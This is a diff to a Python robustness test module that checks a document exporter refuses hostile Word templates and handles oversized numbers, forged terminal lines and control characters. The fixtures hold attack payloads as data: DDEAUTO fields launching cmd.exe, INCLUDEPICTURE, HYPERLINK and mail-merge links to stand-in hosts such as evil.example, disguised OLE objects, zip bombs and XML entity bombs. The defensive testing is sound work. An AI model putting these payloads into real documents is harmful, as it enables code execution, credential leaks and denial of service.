@@ -27,6 +27,7 @@ from typing import Any
 
 from playbooks.io import locking, storage
 from tests.robustness.trust import (
+    HUB,
     ROOT,
     Report,
     _as_user,
@@ -483,12 +484,399 @@ def huge_outputs(folder: Path) -> Report:
     return report
 
 
+# ---------------------------------------------------------------- Word templates judged by content
+
+
+_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
+_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
+
+
+def _docx_parts() -> dict[str, bytes]:
+    import io
+    import zipfile
+
+    from tests.robustness.trust import plain_docx
+
+    with zipfile.ZipFile(io.BytesIO(plain_docx())) as source:
+        return {name: source.read(name) for name in source.namelist()}
+
+
+def _pack(parts: dict[str, bytes]) -> bytes:
+    import io
+    import zipfile
+
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
+        for name, data in parts.items():
+            target.writestr(name, data)
+    return out.getvalue()
+
+
+def _with(
+    parts: dict[str, bytes], *, body: str = "", rel: tuple[str, str, str] | None = None, types: str = ""
+) -> bytes:
+    if body:
+        document = parts["word/document.xml"]
+        at = document.rindex(b"<w:sectPr")
+        parts["word/document.xml"] = document[:at] + body.encode() + document[at:]
+    if rel:
+        rel_id, kind, target = rel
+        xml = f'<Relationship Id="{rel_id}" Type="{_R}/{kind}" Target="{target}"/>'.encode()
+        name = "word/_rels/document.xml.rels"
+        parts[name] = parts[name].replace(b"</Relationships>", xml + b"</Relationships>")
+    if types:
+        parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(b"</Types>", types.encode() + b"</Types>")
+    return _pack(parts)
+
+
+def _field(code: str) -> str:
+    return (
+        f'<w:p {_W}><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">{code}'
+        '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+    )
+
+
+def _ole_body(rel_id: str) -> str:
+    return (
+        f'<w:p {_W} xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:v="urn:schemas-microsoft-com:vml" '
+        f'xmlns:r="{_R}"><w:r><w:object><v:shape id="s1" style="width:50pt;height:50pt"/><o:OLEObject '
+        f'Type="Embed" ProgID="Package" ShapeID="s1" DrawAspect="Icon" ObjectID="_1" r:id="{rel_id}"/></w:object>'
+        "</w:r></w:p>"
+    )
+
+
+def _header_named_dat() -> bytes:
+    import re
+
+    parts = _docx_parts()
+    parts["word/header9.dat"] = (
+        f"<w:hdr {_W}><w:p><w:fldSimple w:instr='DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"'/>"
+        "</w:p></w:hdr>"
+    ).encode()
+    document = parts["word/document.xml"]
+    parts["word/document.xml"] = re.sub(
+        rb"(<w:sectPr[^>]*>)", rb'\1<w:headerReference xmlns:r="' + _R.encode() + rb'" w:type="default" r:id="rIdH9"/>',
+        document, count=1,
+    )  # fmt: skip
+    return _with(
+        parts,
+        rel=("rIdH9", "header", "header9.dat"),
+        types='<Override PartName="/word/header9.dat" '
+        'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"/>',
+    )
+
+
+def _main_named_dat() -> bytes:
+    parts = _docx_parts()
+    document = parts.pop("word/document.xml")
+    at = document.rindex(b"<w:sectPr")
+    parts["word/main.dat"] = (
+        document[:at] + _field(' INCLUDEPICTURE "\\\\evil\\share\\x.png" \\d ').encode() + document[at:]
+    )
+    parts["word/_rels/main.dat.rels"] = parts.pop("word/_rels/document.xml.rels")
+    parts["_rels/.rels"] = parts["_rels/.rels"].replace(b"word/document.xml", b"word/main.dat")
+    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(b"/word/document.xml", b"/word/main.dat")
+    return _pack(parts)
+
+
+def _mail_merge() -> bytes:
+    parts = _docx_parts()
+    parts["word/settings.xml"] = parts["word/settings.xml"].replace(
+        b"</w:settings>",
+        b'<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:linkToQuery/><w:dataType w:val="native"/>'
+        b'<w:connectString w:val="Data Source=\\\\evil.example\\share\\data.xlsx"/>'
+        b'<w:query w:val="SELECT * FROM `Sheet1$`"/></w:mailMerge></w:settings>',
+    )
+    return _pack(parts)
+
+
+def _zip_damage(name: str, how: str) -> bytes:
+    import io
+    import zipfile
+
+    data = bytearray(_pack(_docx_parts()))
+    info = zipfile.ZipFile(io.BytesIO(bytes(data))).getinfo(name)
+    central = bytes(data).index(b"PK\x01\x02")
+    while bytes(data)[central + 46 : central + 46 + len(name)] != name.encode():
+        central = bytes(data).index(b"PK\x01\x02", central + 4)
+    local = info.header_offset
+    if how == "encrypted":
+        data[local + 6] |= 1
+        data[central + 8] |= 1
+    elif how == "bad checksum":
+        data[local + 14] ^= 0xFF
+        data[central + 16] ^= 0xFF
+    else:  # an unknown compression method
+        data[local + 8 : local + 10] = struct.pack("<H", 97)
+        data[central + 10 : central + 12] = struct.pack("<H", 97)
+    return bytes(data)
+
+
+def word_templates_by_content() -> dict[str, Callable[[], bytes]]:
+    """Hostile Word templates the names of parts do not give away (cases 28, 48 and 52)."""
+    return {
+        "an OLE object stored as an image": lambda: _with(
+            _docx_parts() | {"word/media/image9.png": _OLE},
+            body=_ole_body("rIdO1"),
+            rel=("rIdO1", "oleObject", "media/image9.png"),
+            types='<Default Extension="png" ContentType="image/png"/>',
+        ),
+        "an embedded workbook": lambda: _with(
+            _docx_parts() | {"word/objects/Book1.xls": _OLE},
+            body=_ole_body("rIdP1"),
+            rel=("rIdP1", "oleObject", "objects/Book1.xls"),
+            types='<Default Extension="xls" ContentType="application/vnd.ms-excel"/>',
+        ),
+        "an embedded package": lambda: _with(
+            _docx_parts() | {"word/media/p.bin": b"PK\x03\x04 package"},
+            rel=("rIdK1", "package", "media/p.bin"),
+            types='<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.package"/>',
+        ),
+        "a header named .dat with DDEAUTO": _header_named_dat,
+        "the main document named .dat with INCLUDEPICTURE": _main_named_dat,
+        "a mail merge on a share": _mail_merge,
+        "a PRINT field": lambda: _with(_docx_parts(), body=_field('PRINT "%%!PS-Adobe (evil) show"')),
+        "an EMBED field": lambda: _with(_docx_parts(), body=_field("EMBED Package")),
+        "INCLUDEPICTURE made by Jinja": lambda: _with(
+            _docx_parts(), body=_field('{{ "INCLUDE" ~ "PICTURE" }} "http://evil.example/b.png" \\d')
+        ),
+        "DDEAUTO made by Jinja": lambda: _with(_docx_parts(), body=_field('{{ "DDE" ~ "AUTO" }} cmd.exe "/k calc"')),
+        "a HYPERLINK to smb made by Jinja": lambda: _with(
+            _docx_parts(), body=_field('HYPERLINK "{{ "smb" ~ "://evil/share" }}"')
+        ),
+        "an entry flagged encrypted": lambda: _zip_damage("word/document.xml", "encrypted"),
+        "an entry with a wrong checksum": lambda: _zip_damage("word/document.xml", "bad checksum"),
+        "an entry packed with method 97": lambda: _zip_damage("word/document.xml", "method"),
+        "a zip bomb": lambda: _pack(_docx_parts() | {"word/bomb.xml": b"<a>" + b" " * (20 * 1024 * 1024) + b"</a>"}),
+        "100,000 nested elements": lambda: _with(
+            _docx_parts(), body=f"<w:p {_W}>" + "<w:x>" * 100_000 + "</w:x>" * 100_000 + "</w:p>"
+        ),
+        "an XML entity bomb": lambda: _pack(
+            _docx_parts()
+            | {
+                "word/lol.xml": b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa">'
+                + b"".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">'.encode() for i in range(7))
+                + b"]><l>&h;</l>"
+            }
+        ),
+    }
+
+
+def word_by_content(folder: Path) -> Report:
+    """Custom Word templates whose active parts, fields or damage only their content, content
+    types and relationships show: refused in one line naming the template (never exit 3)."""
+    from playbooks.export import ExportError, export_document
+
+    report = Report("Word templates judged by content")
+    playbook = storage.load(HUB)
+    for number, (kind, make) in enumerate(word_templates_by_content().items()):
+        templates = folder / f"word-{number}"
+        templates.mkdir()
+        (templates / "policy.docx").write_bytes(make())
+        problems = []
+        try:
+            export_document(playbook, "policy", "docx", template_dir=templates)
+            problems.append("the template was used")
+        except ExportError as exc:
+            message = str(exc)
+            if "\n" in message or "policy.docx" not in message or "'{{'" in message:
+                problems.append(f"not one clear line naming the template: {message}")
+        except Exception as exc:
+            problems.append(f"an internal error: {type(exc).__name__}: {exc}")
+        report.case(kind, problems)
+    return report
+
+
+# ---------------------------------------------------------------- numbers of any size
+
+
+def huge_numbers(folder: Path) -> Report:
+    """Whole numbers of any size the format accepts are exported as written, in every format,
+    and compared, diffed, resolved and signed off; those it refuses are refused in plain words."""
+    import re
+
+    from tests.robustness.trust import SPOKE, terminal_problems
+
+    report = Report("numbers of any size")
+    big = "9" * 400
+    hub = folder / HUB.name
+    text = HUB.read_text(encoding="utf-8")
+    hub.write_text(
+        re.sub(r"\n( +)character_limit: [^\n]*", rf"\n\1character_limit: {big}", text, count=1), encoding="utf-8"
+    )
+    spoke = folder / SPOKE.name
+    shutil.copyfile(SPOKE, spoke)
+    for doc, fmt in (("policy", "md"), ("policy", "html"), ("policy", "docx"), ("checklist", "csv")):
+        out = folder / f"huge-{doc}.{fmt}"
+        code, stdout, err = cli(["export", str(hub), "--doc", doc, "--format", fmt, "-o", str(out)])
+        problems = answer_problems(code, stdout, err, frozenset({0, 1}))
+        if fmt in ("md", "html") and code in (0, 1) and big not in out.read_text(encoding="utf-8"):
+            problems.append("the number is not in the document as the playbook holds it")
+        report.case(f"a 400-digit character limit, {doc} as {fmt}", problems)
+    for argv in (
+        ["validate", str(hub)],
+        ["compare", str(HUB), str(hub)],
+        ["diff", str(spoke)],
+        ["resolve", str(spoke)],
+        ["signoff", str(hub), "--approver", "Big Number", "--role", "Reviewer"],
+    ):
+        code, stdout, err = cli(argv)
+        report.case(f"a 400-digit character limit, {argv[0]}", answer_problems(code, stdout, err, frozenset({0, 1})))
+    longer = folder / "longer.playbook.yaml"
+    longer.write_text(
+        re.sub(r"\n( +)character_limit: [^\n]*", rf"\n\1character_limit: {'9' * 5000}", text, count=1), encoding="utf-8"
+    )
+    code, stdout, err = cli(["validate", str(longer)])
+    problems = answer_problems(code, stdout, err, frozenset({1}))
+    if "at most 4,300 digits" not in stdout:
+        problems.append(f"a 5,000-digit whole number is not refused for its length: {stdout[-300:]!r}")
+    report.case("a 5,000-digit whole number", problems)
+    # a spoke change that names an item's field by its place: plain words, never a pattern
+    data = json.loads(json.dumps(__import__("yaml").safe_load(spoke.read_text(encoding="utf-8")), default=str))
+    data["changes"].append(
+        {
+            "action": "set",
+            "path": "channels.accounts[1].character_limit",
+            "value": 5,
+            "rationale": "r",
+            "approver": "A B",
+        }
+    )
+    indexed = folder / "indexed.playbook.yaml"
+    from playbooks.io.yamlio import dump_yaml
+
+    indexed.write_text(dump_yaml(data), encoding="utf-8")
+    shutil.copyfile(hub, folder / "hub-copy.playbook.yaml")
+    code, stdout, err = cli(["validate", str(indexed)])
+    problems = answer_problems(code, stdout, err, frozenset({1, 2}))
+    if (
+        "should match pattern" in stdout + err
+        or "^[a-z_]" in stdout + err
+        or "Use a field's address" not in stdout + err
+    ):
+        problems.append(f"not in plain words: {(stdout + err)[-300:]!r}")
+    problems += terminal_problems(stdout + err)
+    report.case("a spoke change whose path has an index", problems)
+    return report
+
+
+# ---------------------------------------------------------------- what reaches a terminal
+
+
+def terminal_sources(folder: Path) -> Report:
+    """What configuration files and the environment say reaches the terminal as one line each,
+    naming what is wrong (the range of a number, the encoding of a file)."""
+    report = Report("configuration and environment on the terminal")
+    hub = hub_copy(folder)
+    crafted = folder / "charter.toml"
+    crafted.write_text(
+        '"x\\ncharter: resolved, 0 errors\\nFORGED line" = 1\n'
+        'template_dir = "/none\\ncharter: validate: 0 errors\\nFORGED too"\n'
+        'paper = "a4\\nFORGED paper\\u001b[2J\\u202e"\n',
+        encoding="utf-8",
+    )
+    from playbooks.io import config
+
+    saved = os.environ.get("CHARTER_CONFIG")
+    os.environ["CHARTER_CONFIG"] = str(crafted)
+    config.reset()
+    try:
+        for argv in (
+            ["config"],
+            ["config", "--format", "json"],
+            ["export", str(hub), "--format", "md", "-o", str(folder / "o.md")],
+            ["new", "-o", str(folder / "n.playbook.yaml")],
+        ):
+            code, out, err = cli(argv)
+            report.case(f"a crafted configuration file: {' '.join(argv[:2])}", answer_problems(code, out, err))
+    finally:
+        if saved is None:
+            os.environ.pop("CHARTER_CONFIG", None)
+        else:
+            os.environ["CHARTER_CONFIG"] = saved
+        config.reset()
+    saved = os.environ.get("SOURCE_DATE_EPOCH")
+    try:
+        for value in ("1000000000000000", "-1000000000000", "253402300800", "1e9", "\x1b[2J", "9" * 5000):
+            os.environ["SOURCE_DATE_EPOCH"] = value
+            code, out, err = cli(["export", str(hub), "--format", "md", "-o", str(folder / "e.md"), "--force"])
+            problems = answer_problems(code, out, err, frozenset({2}))
+            if "253402300799" not in err:
+                problems.append(f"the range is not named: {err!r}")
+            report.case(f"SOURCE_DATE_EPOCH={value[:20]!r}", problems)
+    finally:
+        if saved is None:
+            os.environ.pop("SOURCE_DATE_EPOCH", None)
+        else:
+            os.environ["SOURCE_DATE_EPOCH"] = saved
+    for label, raw, named in (
+        ("UTF-32 LE", "\ufeffschema_version: 1\n".encode("utf-32-le"), "UTF-32"),
+        ("UTF-32 BE", "\ufeffschema_version: 1\n".encode("utf-32-be"), "UTF-32"),
+        ("UTF-16 LE", "\ufeffschema_version: 1\n".encode("utf-16-le"), "UTF-16"),
+    ):
+        path = folder / f"{label.replace(' ', '-')}.playbook.yaml"
+        path.write_bytes(raw)
+        code, out, err = cli(["validate", str(path)])
+        problems = answer_problems(code, out, err, frozenset({2}))
+        if f"the file is {named}" not in err:
+            problems.append(f"the encoding is not named: {err!r}")
+        report.case(f"a playbook in {label}", problems)
+    return report
+
+
+# ---------------------------------------------------------------- control characters in documents
+
+
+#: Characters no exported document may hold raw (one rule for every format).
+_CONTROLS = "\x1b[2J\x07\x0b\x0c\x7f\x85\x9b31m\ufffe\uffff\ufdd0"
+
+
+def document_controls(folder: Path) -> Report:
+    """Control characters and noncharacters of field text never reach an exported document raw."""
+    import io
+    import zipfile
+
+    from playbooks.export import export_document
+
+    report = Report("control characters in documents")
+    playbook = storage.load(HUB)
+    data = playbook.model_dump(mode="json")
+    data["document"]["title"] = f"Title {_CONTROLS} end"
+    data["scope"]["purpose"] = f"Purpose {_CONTROLS}\r\nsecond line"
+    data["channels"]["accounts"][0]["handle"] = f"@x{_CONTROLS}"
+    crafted = type(playbook).model_validate(data)
+    for doc, fmt in (
+        ("policy", "md"),
+        ("policy", "html"),
+        ("policy", "docx"),
+        ("checklist", "csv"),
+        ("checklist", "md"),
+    ):
+        out = export_document(crafted, doc, fmt)
+        if fmt == "docx":
+            with zipfile.ZipFile(io.BytesIO(out)) as archive:
+                text = "".join(archive.read(n).decode("utf-8") for n in archive.namelist() if n.endswith(".xml"))
+        else:
+            text = out.decode("utf-8")
+        found = sorted(
+            {f"U+{ord(ch):04X}" for ch in text if ch not in "\t\n\r" and (ord(ch) < 32 or 0x7F <= ord(ch) <= 0x9F)}
+            | {f"U+{ord(ch):04X}" for ch in text if ch in "\ufffe\uffff\ufdd0"}
+        )
+        report.case(f"{doc} as {fmt}", [f"raw {found} in the document"] if found else [])
+    return report
+
+
 #: The classes of this module, in the order of the attack's report.
 CLASSES: dict[str, Callable[[Path], Report]] = {
     "lock names and shapes": lock_shapes,
     "lock breakers and hard links": lock_breakers,
     "saves in shared folders": shared_saves,
     "outputs over huge files and hub chains": huge_outputs,
+    "Word templates judged by content": word_by_content,
+    "numbers of any size": huge_numbers,
+    "configuration and environment on the terminal": terminal_sources,
+    "control characters in documents": document_controls,
 }
 
 #: The classes that need Qt (the tests run them in tests/ui/).
